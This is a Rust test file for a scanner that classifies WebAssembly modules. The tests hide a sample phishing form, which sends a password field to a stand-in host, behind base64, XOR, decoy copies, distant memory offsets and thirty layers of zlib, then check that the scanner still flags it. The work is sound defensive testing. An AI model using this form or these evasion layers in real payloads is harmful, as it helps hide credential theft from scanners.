//! Things that are put where there is no room to look: behind much else, among much else, after much else. It
//! is found, or it is said that not all was looked at, and then it is not CLEAN.

use super::{Class, analysed, at_least, carriers::base64, class};

const PAGE: &str =
    "<html><body><form action='https://c.example.invalid/in'>Password <input name='p'></form></body></html>";
const PROSE: &str = "The beds are planted, and the water tank was delivered on Monday. ";

fn plain(bytes: &[u8]) -> String {
    bytes.iter().map(|byte| format!("\\{byte:02x}")).collect()
}

/// Hands over the same long prose many times, each a little changed, and then a text.
fn flood(times: u32, text: &str) -> String {
    let prose = PROSE.repeat(900);
    format!(
        r#"(module (import "env" "show" (func $show (param i32 i32))) (memory (export "memory") 4)
          (data (i32.const 1024) "{}") (data (i32.const 100000) "{}")
          (func (export "run") (local $i i32)
            (loop $next
              (i32.store8 (i32.const 1024) (i32.add (i32.const 65) (i32.and (local.get $i) (i32.const 7))))
              (call $show (i32.const 1024) (i32.const {}))
              (local.set $i (i32.add (local.get $i) (i32.const 1)))
              (br_if $next (i32.lt_u (local.get $i) (i32.const {times}))))
            (call $show (i32.const 100000) (i32.const {}))))"#,
        plain(prose.as_bytes()),
        plain(text.as_bytes()),
        prose.len(),
        text.len()
    )
}

#[test]
fn much_that_is_handed_over_hides_nothing_after_it() {
    at_least(
        Class::Undecided,
        &[("a page behind an encoding", flood(40, &base64(PAGE.as_bytes()))), ("a page", flood(40, PAGE))],
    );
    assert_eq!(class(&flood(40, PROSE)), Class::Clean);
}

/// Builds a page at an address, among or beyond copies of something else.
fn built(page: &str, at: u32, pages: u32, decoy: &str, decoys: u32) -> String {
    let hidden: Vec<u8> = page.bytes().map(|byte| byte ^ 0x5a).collect();
    format!(
        r#"(module (memory (export "memory") {pages})
          (data (i32.const 1024) "{}") (data (i32.const 4000) "{}\00")
          (func (export "run") (local $i i32) (local $n i32)
            (loop $decoy
              (memory.copy (i32.add (i32.const 20000) (i32.mul (local.get $n) (i32.const {step})))
                (i32.const 4000) (i32.const {step}))
              (local.set $n (i32.add (local.get $n) (i32.const 1)))
              (br_if $decoy (i32.lt_u (local.get $n) (i32.const {decoys}))))
            (loop $letter
              (i32.store8 (i32.add (i32.const {at}) (local.get $i))
                (i32.xor (i32.load8_u offset=1024 (local.get $i)) (i32.const 90)))
              (local.set $i (i32.add (local.get $i) (i32.const 1)))
              (br_if $letter (i32.lt_u (local.get $i) (i32.const {}))))))"#,
        plain(&hidden),
        plain(decoy.as_bytes()),
        page.len(),
        step = decoy.len() + 1,
    )
}

#[test]
fn much_in_memory_hides_nothing() {
    at_least(
        Class::PotentiallyUnwanted,
        &[
            ("among words that begin pages", built(PAGE, 900_000, 16, "<html>a", 5000)),
            ("far from all else", built(PAGE, 40_000_000, 700, "a", 1)),
            ("behind long beginnings of pages", {
                built(PAGE, 3_000_000, 64, &format!("<html>{}", "x".repeat(1000)), 2000)
            }),
        ],
    );
    assert_eq!(class(&built(PROSE, 900_000, 16, "<html>a", 5000)), Class::Clean);
}

/// More layers than are taken off are no way to hide.
#[test]
fn more_layers_than_are_taken_off_are_told() {
    let handing = |bytes: &[u8]| {
        format!(
            r#"(module (import "env" "show" (func $show (param i32 i32))) (memory (export "memory") 4)
              (data (i32.const 1024) "{}") (func (export "run") (call $show (i32.const 1024) (i32.const {}))))"#,
            plain(bytes),
            bytes.len()
        )
    };
    let mut text = PAGE.as_bytes().to_vec();
    for _ in 0..30 {
        text = packed(&text);
    }
    let verdict = analysed(&handing(&text)).verdict;
    assert_eq!(verdict.class, Class::Undecided, "{:?}", verdict.reasons);
    assert!(verdict.reasons[0].text.contains("not looked through"), "{:?}", verdict.reasons);
    // A page far behind the beginning of what was packed is seen.
    let far = PROSE.repeat(3000) + PAGE;
    let modules = [("far in what is packed", handing(&packed(far.as_bytes())))];
    at_least(Class::PotentiallyUnwanted, &modules);
}

/// zlib.
fn packed(bytes: &[u8]) -> Vec<u8> {
    use std::io::Write as _;
    let mut packer = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    packer.write_all(bytes).unwrap();
    packer.finish().unwrap()
}
